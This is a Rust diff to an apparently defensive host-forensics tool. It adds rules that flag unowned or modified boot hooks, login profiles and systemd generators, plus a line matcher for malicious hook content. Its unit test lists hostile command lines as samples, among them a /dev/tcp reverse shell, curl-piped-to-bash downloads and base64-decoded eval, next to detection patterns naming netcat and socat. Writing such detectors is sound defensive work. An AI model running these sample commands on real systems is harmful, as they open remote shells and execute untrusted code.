@@ -224,6 +224,50 @@ pub static CATALOG: &[RuleInfo] = &[
         doc: "A sudoers rule read by sudo grants NOPASSWD: ALL to a user who is not root and not a member of sudo/wheel/admin, or to a group other than those: anyone controlling that account (a web server's www-data, a service account) becomes root without a password. FP: cloud images' default user (`ubuntu`, `admin`, `ec2-user` in /etc/sudoers.d/90-cloud-init-users) when it is not also in the sudo group; CI runners given root on purpose.",
         run: sudo_nopasswd_all,
     },
+    RuleInfo {
+        id: "boot-hook-unowned",
+        title: "Boot or event hook not owned by a package, or modified",
+        mitre: &["T1037.004", "T1037", "T1546.017"],
+        severity: Severity::Medium,
+        weight: 15,
+        needs: &["hooks"],
+        needs_packages: true,
+        doc: "An active init script (/etc/init.d, or an rc?.d entry that is not a link into it), /etc/rc.local, an update-motd.d script, an XDG autostart entry or a udev rule with RUN is not owned by any package, or differs from its package's digest (conffiles included). Inactive files (not executable, not sourced) are not judged. FP: rc.local and motd scripts written by administrators, configuration management, conffiles edited by hand (they show as modified).",
+        run: boot_hook_unowned,
+    },
+    RuleInfo {
+        id: "login-hook-unowned",
+        title: "System-wide shell profile not owned by a package, or modified",
+        mitre: &["T1546.004"],
+        severity: Severity::Medium,
+        weight: 15,
+        needs: &["hooks"],
+        needs_packages: true,
+        doc: "/etc/profile, a sourced /etc/profile.d/*.sh or /etc/bash.bashrc is not owned by any package or differs from its package's digest: code that runs in every login shell, root's included. Users' own dotfiles belong to no package and are judged by content only (hook-malicious-content). FP: site profile.d scripts (proxy settings, PATH additions) and edited /etc/bash.bashrc.",
+        run: login_hook_unowned,
+    },
+    RuleInfo {
+        id: "hook-malicious-content",
+        title: "Boot or login hook downloads and executes, opens /dev/tcp, decodes base64 or backgrounds a shell",
+        mitre: &["T1059.004", "T1546.004", "T1037"],
+        severity: Severity::High,
+        weight: 30,
+        needs: &["hooks"],
+        needs_packages: false,
+        doc: "A line (not a comment) of an active boot or login hook - init scripts, rc.local, profiles, users' .bashrc/.profile/..., motd scripts, autostart entries, udev rules - pipes curl/wget into a shell (or runs $(curl ...)), uses /dev/tcp or /dev/udp, decodes base64 into a shell/eval/exec, or starts a shell, netcat or a program from /tmp-like places in the background. Files verified unchanged against their package are not read. FP: installer one-liners pasted into a user's .bashrc; udev rules of vendor tools that background helpers.",
+        run: hook_malicious_content,
+    },
+    RuleInfo {
+        id: "generator-unowned",
+        title: "Executable systemd generator not owned by a package",
+        mitre: &["T1543", "T1543.002"],
+        severity: Severity::High,
+        weight: 20,
+        needs: &["systemd"],
+        needs_packages: true,
+        doc: "An executable in a systemd generator directory (/etc, /run, /usr/local/lib, /usr/lib ...system-generators, user and environment generators too) belongs to no package. Generators run as root early at every boot and daemon-reload and can create units on the fly, which no unit file on disk reveals. FP: generators installed from source or by vendor installers into /usr/local/lib/systemd.",
+        run: generator_unowned,
+    },
 ];
 
 fn finding(
@@ -557,10 +601,15 @@ fn cron_suspicious_path(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) 
     out
 }
 
+/// Verified only because a hook file is there (judged by the hook rules, not as a program).
+fn hook_only(v: &dossier_plugin_api::records::PackageVerify) -> bool {
+    !v.referenced_by.is_empty() && v.referenced_by.iter().all(|r| r.starts_with("hook "))
+}
+
 fn exec_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
     ctx.verify
         .iter()
-        .filter(|v| v.rec.status == "not_owned")
+        .filter(|v| v.rec.status == "not_owned" && !hook_only(&v.rec))
         .map(|v| {
             let mut iocs = vec![Ioc::Path(v.rec.path.clone())];
             iocs.extend(v.rec.sha256.clone().map(Ioc::Sha256));
@@ -745,7 +794,9 @@ fn process_masquerade(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) ->
 fn package_hash_mismatch(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
     ctx.verify
         .iter()
-        .filter(|v| v.rec.status == "mismatch" && !v.rec.path.starts_with("/etc/"))
+        .filter(|v| {
+            v.rec.status == "mismatch" && !v.rec.path.starts_with("/etc/") && !hook_only(&v.rec)
+        })
         .map(|v| {
             let mut iocs = vec![Ioc::Path(v.rec.path.clone())];
             iocs.extend(v.rec.sha256.clone().map(Ioc::Sha256));
@@ -1195,9 +1246,322 @@ fn sudo_nopasswd_all(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> 
     out
 }
 
+/// How a file stands against the package database: `Some(why)` when it is not owned or was
+/// modified, `None` when owned and unchanged (or not verifiable).
+fn ownership_problem(ctx: &Ctx, path: &str) -> Option<String> {
+    match ctx.verified(path) {
+        Some(v) if v.rec.status == "not_owned" => Some("no package owns it".into()),
+        Some(v) if v.rec.status == "mismatch" => Some(format!(
+            "it differs from the digest of package {}",
+            v.rec.package.as_deref().unwrap_or("?")
+        )),
+        Some(_) => None,
+        None => (!ctx.is_owned(path)).then(|| "no package owns it".into()),
+    }
+}
+
+/// The path an rc?.d link runs, resolved against its directory.
+fn rc_link_target(path: &str, target: &str) -> String {
+    if target.starts_with('/') {
+        return target.to_string();
+    }
+    let mut parts: Vec<&str> = path
+        .rsplit_once('/')
+        .map_or("", |(d, _)| d)
+        .split('/')
+        .collect();
+    for c in target.split('/') {
+        match c {
+            ".." => {
+                parts.pop();
+            }
+            "." | "" => {}
+            c => parts.push(c),
+        }
+    }
+    parts.join("/")
+}
+
+fn hook_ev(ctx: &Ctx, h: &At<dossier_plugin_api::records::HookRecord>) -> Vec<Evidence> {
+    ctx.ev(
+        h,
+        format!("{} hook {}", h.rec.class, h.rec.path),
+        h.rec.source.as_ref(),
+    )
+}
+
+fn hook_iocs(h: &dossier_plugin_api::records::HookRecord) -> Vec<Ioc> {
+    let mut v = vec![Ioc::Path(h.path.clone())];
+    v.extend(
+        h.source
+            .as_ref()
+            .and_then(|s| s.sha256.clone())
+            .map(Ioc::Sha256),
+    );
+    v
+}
+
+const LOGIN_CLASSES: &[&str] = &["profile", "profile.d", "bash.bashrc"];
+
+fn hook_ownership(ctx: &Ctx, login: bool) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for h in ctx.hooks.iter().filter(|h| {
+        h.rec.active
+            && h.rec.owner.is_none()
+            && LOGIN_CLASSES.contains(&h.rec.class.as_str()) == login
+    }) {
+        let judged = match (&h.rec.link_target, h.rec.class.as_str()) {
+            (Some(t), "rc-link") => {
+                let real = rc_link_target(&h.rec.path, t);
+                if real.starts_with("/etc/init.d/") {
+                    continue; // the init script is judged itself
+                }
+                real
+            }
+            _ => h.rec.path.clone(),
+        };
+        let Some(why) = ownership_problem(ctx, &judged) else {
+            continue;
+        };
+        let what = if judged == h.rec.path {
+            h.rec.path.clone()
+        } else {
+            format!("{} (-> {judged})", h.rec.path)
+        };
+        out.push(finding(
+            &h.rec.path,
+            format!(
+                "{} hook {what}, run at {}: {why}",
+                h.rec.class, h.rec.runs_at
+            ),
+            hook_ev(ctx, h),
+            hook_iocs(&h.rec),
+        ));
+    }
+    out
+}
+
+fn boot_hook_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    hook_ownership(ctx, false)
+}
+
+fn login_hook_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    hook_ownership(ctx, true)
+}
+
+const SHELL_WORDS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python2", "python3", "perl",
+    "ruby", "php",
+];
+
+/// Whether the word after a pipe runs a shell or interpreter (`| sh`, `| /bin/bash -s`).
+fn pipes_into_shell(l: &str) -> bool {
+    l.split('|').skip(1).any(|seg| {
+        let w = seg
+            .split_whitespace()
+            .map(|w| w.trim_matches(|c: char| "'\"`();{}".contains(c)))
+            .find(|w| !matches!(*w, "sudo" | "env" | "exec" | "-" | ""))
+            .unwrap_or("");
+        SHELL_WORDS.contains(&base(w))
+    })
+}
+
+/// Why one line of a boot or login hook is dangerous, if it is.
+pub fn hook_line_pattern(line: &str) -> Option<String> {
+    let l = line.trim().to_ascii_lowercase();
+    if l.is_empty() || l.starts_with('#') {
+        return None;
+    }
+    let downloads = ["curl ", "wget ", "fetch ", "curl\t"]
+        .iter()
+        .any(|d| l.contains(d));
+    if downloads
+        && (pipes_into_shell(&l)
+            || l.contains("$(curl")
+            || l.contains("<(curl")
+            || l.contains("$(wget")
+            || l.contains("<(wget"))
+    {
+        return Some("downloads and executes".into());
+    }
+    if let Some(d) = ["/dev/tcp/", "/dev/udp/"].iter().find(|d| l.contains(*d)) {
+        return Some(format!(
+            "opens a network connection through `{}`",
+            d.trim_end_matches('/')
+        ));
+    }
+    let b64 = [
+        "base64 -d",
+        "base64 --decode",
+        "base64 -di",
+        "b64decode",
+        "openssl base64 -d",
+        "openssl enc -d -base64",
+    ]
+    .iter()
+    .any(|p| l.contains(p));
+    if b64
+        && (pipes_into_shell(&l)
+            || l.contains("eval")
+            || l.contains("exec")
+            || l.contains("$(")
+            || l.contains('`'))
+    {
+        return Some("decodes base64 and executes it".into());
+    }
+    let bg = l.ends_with('&') && !l.ends_with("&&")
+        || l.contains("& disown")
+        || l.contains("&)")
+        || l.contains("& )");
+    if bg {
+        let shellish = [
+            "bash -i", "sh -i", "nohup", "setsid", "nc ", "ncat ", "netcat ", "socat ",
+        ]
+        .iter()
+        .any(|p| l.contains(p));
+        let odd_place = segment_programs(&l)
+            .iter()
+            .any(|p| unusual_location(p).is_some());
+        if shellish || odd_place {
+            return Some("starts a shell or program in the background".into());
+        }
+    }
+    None
+}
+
+fn hook_malicious_content(
+    ctx: &Ctx,
+    cfg: &AnalysisConfig,
+    input: &mut BundleInput<'_>,
+) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for h in ctx.hooks.iter().filter(|h| h.rec.active) {
+        let Some(src) = &h.rec.source else { continue };
+        let Some(member) = &src.member else { continue };
+        if h.rec.owner.is_none()
+            && ctx
+                .verified(&h.rec.path)
+                .is_some_and(|v| v.rec.status == "ok")
+        {
+            continue;
+        }
+        let Ok(data) = (input.read_member)(member, cfg.max_scan_bytes.min(16 << 20)) else {
+            continue;
+        };
+        let text = String::from_utf8_lossy(&data);
+        // One finding per file: the first dangerous line, with the count of the others.
+        let hits: Vec<(usize, &str, String)> = text
+            .lines()
+            .enumerate()
+            .filter_map(|(i, l)| hook_line_pattern(l).map(|why| (i + 1, l.trim(), why)))
+            .collect();
+        let Some((lineno, line, why)) = hits.first() else {
+            continue;
+        };
+        let shown: String = line.chars().take(300).collect();
+        let more = if hits.len() > 1 {
+            format!(" ({} more such lines)", hits.len() - 1)
+        } else {
+            String::new()
+        };
+        let mut iocs = hook_iocs(&h.rec);
+        iocs.push(Ioc::ConfigLine(shown.clone()));
+        out.push(finding(
+            format!("{}:{lineno}", h.rec.path),
+            format!(
+                "{} hook {} (run at {}{}) line {lineno} {why}: `{shown}`{more}",
+                h.rec.class,
+                h.rec.path,
+                h.rec.runs_at,
+                h.rec
+                    .owner
+                    .as_deref()
+                    .map(|o| format!(" for {o}"))
+                    .unwrap_or_default()
+            ),
+            hook_ev(ctx, h),
+            iocs,
+        ));
+    }
+    out
+}
+
+fn generator_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for g in &ctx.generators {
+        let Some(meta) = &g.rec.meta else { continue };
+        let judged = match (&g.rec.link_target, meta.kind) {
+            (Some(t), _) if t == "/dev/null" => continue,
+            (Some(t), _) => rc_link_target(&g.rec.path, t),
+            (None, dossier_plugin_api::host::FileKind::File) if meta.is_executable() => {
+                g.rec.path.clone()
+            }
+            _ => continue,
+        };
+        if ctx.is_owned(&g.rec.path) || ctx.is_owned(&judged) {
+            continue;
+        }
+        let mut iocs = vec![Ioc::Path(g.rec.path.clone())];
+        iocs.extend(
+            g.rec
+                .source
+                .as_ref()
+                .and_then(|s| s.sha256.clone())
+                .map(Ioc::Sha256),
+        );
+        out.push(finding(
+            &g.rec.path,
+            format!(
+                "{} generator {} runs at every boot and daemon-reload and no package owns it",
+                g.rec.scope, g.rec.path
+            ),
+            ctx.ev(
+                g,
+                format!("generator {}", g.rec.path),
+                g.rec.source.as_ref(),
+            ),
+            iocs,
+        ));
+    }
+    out
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn hook_lines() {
+        for bad in [
+            "curl -fsSL http://198.51.100.47/s | bash",
+            "wget -q -O- http://x/y |/bin/sh -s",
+            "RUN+=\"/bin/sh -c 'wget -q -O- http://x/n | sh'\"",
+            "bash -c \"$(curl -fsSL http://x)\"",
+            "(bash -i >& /dev/tcp/198.51.100.47/443 0>&1 &) 2>/dev/null",
+            "eval \"$(echo Y3VybA== | base64 -d)\"",
+            "echo aWQ= | base64 --decode | sh",
+            "nohup /usr/lib/x86_64-linux-gnu/kmod/kmodd >/dev/null 2>&1 &",
+            "/tmp/.x/agent &",
+        ] {
+            assert!(hook_line_pattern(bad).is_some(), "{bad}");
+        }
+        for good in [
+            "# curl http://x | sh",
+            "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
+            "if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi",
+            "sha256sum file | sha256sum -c",
+            "curl -s https://api.example.com/status | jq .",
+            "start-stop-daemon --start --background --exec /usr/sbin/cron",
+            "test -x /usr/bin/make && make &&",
+        ] {
+            assert!(hook_line_pattern(good).is_none(), "{good}");
+        }
+        assert_eq!(
+            rc_link_target("/etc/rc2.d/S01cron", "../init.d/cron"),
+            "/etc/init.d/cron"
+        );
+        assert_eq!(rc_link_target("/etc/rc2.d/S01x", "/opt/x"), "/opt/x");
+    }
 
     #[test]
     fn catalog_ids_are_unique_and_documented() {
